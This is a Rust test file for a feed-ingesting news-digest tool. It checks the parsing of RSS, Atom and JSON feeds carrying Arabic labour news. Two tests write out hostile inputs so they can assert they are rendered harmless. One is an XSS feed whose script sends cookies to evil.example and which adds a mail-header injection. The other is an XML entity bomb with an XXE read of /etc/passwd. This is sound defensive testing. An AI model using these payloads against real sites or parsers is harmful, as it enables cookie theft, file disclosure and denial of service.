//! End-to-end tests of feeds as input: the four shapes in `tests/fixtures/feeds` (RSS with
//! `content:encoded`, Atom with HTML content, RSS with only descriptions, JSON Feed), files
//! with a feed's extension that are not feeds, and hostile feed content.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn digest(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_digest"))
        .args(args)
        .current_dir(root())
        .env("SOURCE_DATE_EPOCH", "1717394400")
        .env_remove("DIGEST_WEEK")
        .env_remove("DIGEST_TODAY")
        .output()
        .unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn inspect(file: &str) -> Vec<serde_json::Value> {
    let o = digest(&["inspect", "--format", "json", file]);
    assert!(o.status.success(), "{}", stderr(&o));
    String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// (path, title, date, source, url) of every item.
fn items(file: &str) -> Vec<[String; 5]> {
    inspect(file)
        .iter()
        .map(|a| {
            ["path", "title", "date", "source", "url"]
                .map(|k| a[k].as_str().unwrap_or("-").to_owned())
        })
        .collect()
}

fn row(p: &str, t: &str, d: &str, s: &str, u: &str) -> [String; 5] {
    [p, t, d, s, u].map(str::to_owned)
}

#[test]
fn rss_with_content_encoded_gives_titles_own_dates_channel_and_clean_text() {
    let f = "tests/fixtures/feeds/ministry.rss";
    let mol = "وزارة العمل - الأخبار";
    assert_eq!(
        items(f),
        [
            row(
                &format!("{f}#1"),
                "وزارة العمل تطلق منصة إلكترونية لتسجيل العمالة الوافدة وتجديد تصاريحها",
                "2024-05-28",
                mol,
                "https://mol.example.gov.jo/ar/news/2024/05/28/platform"
            ),
            // 01:30 +03:00 on the 29th is the 28th in UTC: the feed's own day is kept.
            row(
                &format!("{f}#2"),
                "الحد الأدنى للأجور يرتفع إلى 290 دينارا مطلع العام المقبل",
                "2024-05-29",
                mol,
                "https://mol.example.gov.jo/ar/news/2024/05/29/min-wage"
            ),
            row(
                &format!("{f}#3"),
                "ورشة حول السلامة والصحة المهنية في قطاع الإنشاءات",
                "2024-05-20",
                mol,
                "https://mol.example.gov.jo/ar/news/2024/05/20/safety"
            ),
        ]
    );
    let a = &inspect(f)[0];
    assert_eq!(a["date_from"], "feed", "the feed's date, not a guess");
    assert_eq!(a["tags"], serde_json::json!(["تصاريح العمل"]));
    let sentences: Vec<&str> = a["sentences"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    assert_eq!(sentences.len(), 3, "{sentences:?}");
    assert!(
        sentences[0].starts_with("عمّان - أطلقت وزارة العمل"),
        "{}",
        sentences[0]
    );
    // The share bar and the related-articles tail go, like in any article; the script too.
    let text = serde_json::to_string(&inspect(f)).unwrap();
    for gone in ["شارك على فيسبوك", "ورشة حول السلامة المهنية", "trackView"]
    {
        assert!(!sentences.iter().any(|s| s.contains(gone)), "{gone}");
    }
    assert!(!text.contains("trackView"));
    assert!(
        a["removed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r == "شارك على فيسبوك")
    );
}

#[test]
fn atom_with_html_content_and_rss_with_only_descriptions_and_json_feed() {
    let news = "صحيفة الغد الاقتصادي";
    let f = "tests/fixtures/feeds/news.atom";
    assert_eq!(
        items(f),
        [
            row(
                &format!("{f}#1"),
                "منصة إلكترونية جديدة لتسجيل العمالة الوافدة وتجديد تصاريح العمل",
                "2024-05-28",
                news,
                "https://alghad.example.com/economy/1001"
            ),
            // Only <updated>; the link without rel is the alternate one; an entity in an
            // HTML title is decoded once.
            row(
                &format!("{f}#2"),
                "البطالة بين الشباب تتراجع إلى 40 % في الربع الأول",
                "2024-05-30",
                news,
                "https://alghad.example.com/economy/1002"
            ),
        ]
    );
    let f = "tests/fixtures/feeds/agency.xml";
    let agency = "وكالة الأنباء العمالية";
    assert_eq!(
        items(f),
        [
            row(
                &format!("{f}#1"),
                "نقابة عمال البناء تطالب بتشديد الرقابة على شروط السلامة",
                "2024-05-30",
                agency,
                "https://wafa-labour.example.ps/news/5501"
            ),
            row(
                &format!("{f}#2"),
                "اتحاد النقابات يدعو إلى حوار وطني حول قانون الضمان الاجتماعي",
                "2024-06-01",
                agency,
                "https://wafa-labour.example.ps/news/5502"
            ),
        ]
    );
    let first = &inspect(f)[0];
    assert_eq!(first["sentences"].as_array().unwrap().len(), 1, "{first}");
    assert!(
        first["sentences"][0]
            .as_str()
            .unwrap()
            .starts_with("طالبت النقابة العامة")
    );
    let f = "tests/fixtures/feeds/union.json";
    assert_eq!(
        items(f),
        [row(
            &format!("{f}#1"),
            "الاتحاد يوقع اتفاقية تدريب مهني مع منظمة العمل الدولية",
            "2024-05-31",
            "الاتحاد العام لنقابات العمال",
            "https://union.example.org/news/77"
        )]
    );
}

#[test]
fn a_week_of_feeds_merges_the_story_two_feeds_carry() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let o = digest(&[
        "build",
        "--week",
        "2024-W22",
        "--input",
        "tests/fixtures/feeds",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stderr(&o), "", "nothing for the editor");
    let d: serde_json::Value =
        serde_json::from_slice(&fs::read(out.join("2024-W22.json")).unwrap()).unwrap();
    // 8 items, 7 dated in the week, 6 stories: the platform story of the ministry and the
    // newspaper is one story with both as sources.
    assert_eq!(
        (d["article_count"].as_u64(), d["story_count"].as_u64()),
        (Some(7), Some(6))
    );
    let platform = d["stories"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["title"].as_str().unwrap().contains("منصة إلكترونية"))
        .unwrap();
    let names: Vec<&str> = platform["sources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["وزارة العمل - الأخبار", "صحيفة الغد الاقتصادي"]);
    assert_eq!(platform["date"], "2024-05-28");
}

#[test]
fn files_with_a_feed_extension_that_are_not_feeds_are_skipped_with_a_reason() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    fs::create_dir(&input).unwrap();
    fs::copy(
        root().join("tests/fixtures/feeds/union.json"),
        input.join("union.json"),
    )
    .unwrap();
    fs::write(
        input.join("sitemap.xml"),
        "<?xml version=\"1.0\"?>\n<urlset><url><loc>https://e.org/</loc></url></urlset>\n",
    )
    .unwrap();
    fs::write(input.join("data.json"), "{\"rows\": [1, 2]}").unwrap();
    fs::write(
        input.join("broken.rss"),
        "<rss version=\"2.0\"><channel><title>x</title><item><title>y",
    )
    .unwrap();
    let out = tmp.path().join("out");
    let o = digest(&[
        "build",
        "--week",
        "2024-W22",
        "--input",
        input.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("sitemap.xml: XML whose root element is <urlset> is not a feed"),
        "{err}"
    );
    assert!(
        err.contains("data.json: JSON without a JSON Feed \"version\" is not a feed"),
        "{err}"
    );
    assert!(err.contains("broken.rss: not a valid feed"), "{err}");
    assert!(err.contains("3 warning(s)"), "one summary line: {err}");
    let d: serde_json::Value =
        serde_json::from_slice(&fs::read(out.join("2024-W22.json")).unwrap()).unwrap();
    assert_eq!(d["story_count"], 1, "the real feed is still read");
    let o = digest(&[
        "build",
        "--strict",
        "--week",
        "2024-W22",
        "--input",
        input.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn hostile_feed_content_is_inert_in_every_format() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    fs::create_dir(&input).unwrap();
    // A title with markup, handlebars, a bidi override and a header injection; a link
    // that is script; content with script, an iframe, a javascript: link, Markdown and
    // handlebars syntax.
    let rss = "<?xml version=\"1.0\"?>\n<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel>\
        <title>&lt;b&gt;موقع&lt;/b&gt; {{title}}&#13;&#10;Bcc: victim@example.org</title>\
        <item><title>&lt;script&gt;alert(1)&lt;/script&gt; إضراب {{#each stories}}x{{/each}} \u{202E}abc&#13;&#10;Bcc: victim@example.org</title>\
        <link>javascript:alert(document.cookie)</link>\
        <pubDate>Tue, 28 May 2024 10:00:00 +0300</pubDate>\
        <content:encoded><![CDATA[<p>أعلن عمال النسيج إضرابا مفتوحا للمطالبة برفع الأجور وتحسين شروط العمل في المصانع.</p>\
        <script>document.location='https://evil.example/'+document.cookie</script>\
        <iframe src=\"https://evil.example/frame\"></iframe>\
        <p><a href=\"javascript:steal()\">اضغط هنا</a> # عنوان [رابط](javascript:x) {{> digest.md}} &lt;img src=x onerror=alert(2)&gt;</p>\
        <p>وقال ممثل العمال إن الإضراب سيستمر حتى تستجيب الإدارة لمطالبهم المشروعة.</p>]]></content:encoded>\
        </item></channel></rss>";
    fs::write(input.join("hostile.rss"), rss).unwrap();
    let out = tmp.path().join("out");
    let o = digest(&[
        "build",
        "--week",
        "2024-W22",
        "--input",
        input.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let read = |ext: &str| fs::read_to_string(out.join(format!("2024-W22.{ext}"))).unwrap();
    let (md, html, txt, eml) = (read("md"), read("html"), read("txt"), read("eml"));
    assert!(html.contains("إضراب"), "the story is there");
    for (name, s) in [("md", &md), ("html", &html), ("txt", &txt)] {
        assert!(!s.contains('\u{202E}'), "{name}: bidi override");
        assert!(
            !s.contains("javascript:alert") && !s.contains("href=\"javascript"),
            "{name}"
        );
        assert!(
            !s.contains("evil.example"),
            "{name}: script or frame content"
        );
    }
    assert!(
        !html.contains("<script") && !html.contains("<iframe") && !html.contains("<b>"),
        "{html}"
    );
    assert!(!html.contains("<img"), "{html}");
    // Handlebars syntax from the feed is text, not a template.
    assert!(txt.contains("{{#each stories}}x{{/each}}"), "{txt}");
    // Nothing from the feed reaches a header of the message.
    let headers = &eml[..eml.find("\r\n\r\n").unwrap()];
    assert!(
        !headers.contains("victim") && !headers.contains("Bcc"),
        "{headers}"
    );
    // The markup-looking text of the title is shown as text in the Markdown.
    assert!(md.contains("\\<script\\>alert\\(1\\)\\</script\\>"), "{md}");
}

#[test]
fn entity_bombs_and_external_entities_are_not_expanded() {
    let tmp = tempfile::tempdir().unwrap();
    let mut doctype = String::from("<!ENTITY l0 \"lol\">\n");
    for i in 1..10 {
        let prev = format!("&l{};", i - 1).repeat(10);
        doctype.push_str(&format!("<!ENTITY l{i} \"{prev}\">\n"));
    }
    doctype.push_str("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n");
    let rss = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n{doctype}]>\n<rss version=\"2.0\"><channel>\
         <title>&l9;</title><item><title>&xxe; عنوان</title><description>&l9; نص الخبر</description>\
         <pubDate>Tue, 28 May 2024 10:00:00 +0300</pubDate></item></channel></rss>"
    );
    let f = tmp.path().join("bomb.rss");
    fs::write(&f, rss).unwrap();
    let o = digest(&["inspect", "--format", "json", f.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(
        out.len() < 2_000,
        "an entity was expanded: {} bytes",
        out.len()
    );
    assert!(!out.contains("root:"), "{out}");
}
